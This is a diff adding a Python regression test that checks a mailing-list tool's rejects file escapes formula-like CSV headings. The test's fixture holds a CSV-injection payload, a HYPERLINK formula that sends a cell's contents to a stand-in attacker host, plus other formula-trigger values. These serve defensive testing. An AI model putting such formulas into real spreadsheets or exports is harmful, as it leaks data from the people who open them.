@@ -113,3 +113,29 @@ def test_mailer_contact_says_a_journalist_who_clicked_opened_it(tmp_path: Path, 
     assert "  Outcome:  delivered; opened: clicked (only Apple's pre-fetch open recorded); clicks: 1\n" in ana.stdout, ana.stdout
     found = json.loads(mailer("contact", "ben@paper.example", "--json").stdout)["campaigns"][0]
     assert (found["opened"], found["human_opens"], found["clicks"]) == (True, 0, 1), found
+
+
+# -- 4. The rejects file wrote a list's formula-like column headings as they were ----------------
+
+
+def test_rejects_file_headings_are_written_as_text(tmp_path: Path) -> None:
+    """A media database's export headed a column '=HYPERLINK("https://evil.example/?"&B2,"Notes")'.
+    `mailer lists clean --rejects` wrote every cell of the rejected rows spreadsheet-safe, but the
+    headings as they were: the press officer opened the rejects file in Excel to fix the rows,
+    and the heading ran as a formula. Headings get the leading apostrophe too, and the file reads
+    back with the list's own column names."""
+    headings = ['=HYPERLINK("https://evil.example/?"&B2,"Notes")', "+cmd", "\uff20SUM(1)"]
+    quoted = ",".join('"' + heading.replace('"', '""') + '"' for heading in headings)
+    (tmp_path / "press.csv").write_text(
+        f"Email,Name,{quoted}\nana@daily.example,Ana Lima,a,b,c\nbob@@x.example,Bob,d,e,f\n", encoding="utf-8"
+    )
+    cleaned = mailer(
+        "lists", "clean", str(tmp_path / "press.csv"), "-o", str(tmp_path / "clean.csv"), "--rejects", str(tmp_path / "rejects.csv")
+    )
+    assert cleaned.exit_code == 0, cleaned.output
+    with open(tmp_path / "rejects.csv", encoding="utf-8-sig", newline="") as handle:
+        header = next(csv.reader(handle))
+    assert header[2:5] == ["'" + heading for heading in headings], header
+    original = json.loads(mailer("lists", "check", str(tmp_path / "press.csv"), "--json").stdout)["columns"]["custom"]
+    read_back = json.loads(mailer("lists", "check", str(tmp_path / "rejects.csv"), "--json").stdout)["columns"]["custom"]
+    assert {key: read_back[key] for key in original} == original, read_back
